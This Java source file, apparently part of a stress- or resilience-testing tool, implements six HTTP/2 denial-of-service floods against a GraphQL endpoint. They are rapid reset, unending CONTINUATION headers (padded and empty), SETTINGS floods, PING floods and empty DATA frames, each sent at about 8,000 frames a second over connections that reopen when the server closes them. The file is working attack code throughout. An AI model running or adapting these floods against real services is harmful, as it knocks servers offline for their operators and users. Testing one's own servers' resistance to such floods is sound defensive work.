import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.List;

/** Frames of HTTP/2 that cost their sender nothing. */
final class Frames {

    private static final int CONNECTIONS = 4;
    private static final double A_SECOND = 2_000;

    /** A connection that the server ends is begun again, not more often than this in a second. */
    private static final double AGAIN = 20;

    private static final byte[] PART_OF_HEAD = partOfHead();

    /** The largest frame, as it is anyway. */
    private static final byte[] SETTING = ByteBuffer.allocate(6).putShort((short) 5).putInt(16_384).array();

    private Frames() {}

    static List<Attack> attacks() {
        return List.of(
                new Attack("rapid-reset", "4 HTTP/2 connections of 2 addresses ask and cancel, 8,000 times a second", stage ->
                        flood(stage, (connection, number) -> {
                            String path = "/graphql?query=%7Bevents(first%3A50)%7Bnodes%7Bref%20title%7D%7D%7D&a=" + number;
                            connection.reset(connection.head("GET", path, true, "cache-control", "no-cache"));
                        })),
                new Attack("continuation", "4 HTTP/2 connections of 2 addresses send heads without an end", stage ->
                        flood(stage, (connection, number) -> {
                    if (number == 0) {
                        connection.frame(Http2.HEADERS, Http2.END_STREAM, 1, Http2.block("GET", "/graphql"));
                    }
                    connection.frame(Http2.CONTINUATION, 0, 1, PART_OF_HEAD);
                })),
                new Attack("empty-continuation", "the same by frames that hold nothing", stage -> flood(stage, (connection, number) -> {
                    if (number == 0) {
                        connection.frame(Http2.HEADERS, Http2.END_STREAM, 1, Http2.block("GET", "/graphql"));
                    }
                    connection.frame(Http2.CONTINUATION, 0, 1, new byte[0]);
                })),
                new Attack("settings", "4 HTTP/2 connections of 2 addresses change settings, 8,000 times a second", stage ->
                        flood(stage, (connection, number) -> connection.frame(Http2.SETTINGS, 0, 0, SETTING))),
                new Attack("pings", "4 HTTP/2 connections of 2 addresses send pings, 8,000 times a second", stage ->
                        flood(stage, (connection, number) -> connection.frame(Http2.PING, 0, 0, new byte[8]))),
                new Attack("empty-data", "4 HTTP/2 connections of 2 addresses send a body of empty frames", stage ->
                        flood(stage, (connection, number) -> {
                    int stream = number == 0 ? connection.head("POST", "/graphql", false, "content-type", "application/json") : 1;
                    connection.frame(Http2.DATA, 0, stream, new byte[0]);
                })));
    }

    private interface Frame {
        void send(Http2 connection, int number) throws IOException;
    }

    /** Each connection does this as often as it may, and comes again when it is ended. */
    private static void flood(Stage stage, Frame frame) throws InterruptedException {
        stage.cast(CONNECTIONS, 0.1, number -> stage.repeat(AGAIN, time -> {
            Wire wire = stage.connect(number % 2);
            try {
                Http2 connection = new Http2(wire, 65_535, true);
                stage.repeat(A_SECOND, count -> {
                    if (connection.ended()) {
                        throw new IOException("ended");
                    }
                    frame.send(connection, count);
                });
            } catch (IOException ended) {
                stage.leave(wire);
            }
        }));
        stage.rest();
    }

    private static byte[] partOfHead() {
        ByteArrayOutputStream part = new ByteArrayOutputStream();
        for (int i = 0; i < 15; i++) {
            Http2.field(part, "x-part-" + i, "a".repeat(1_000));
        }
        return part.toByteArray();
    }
}
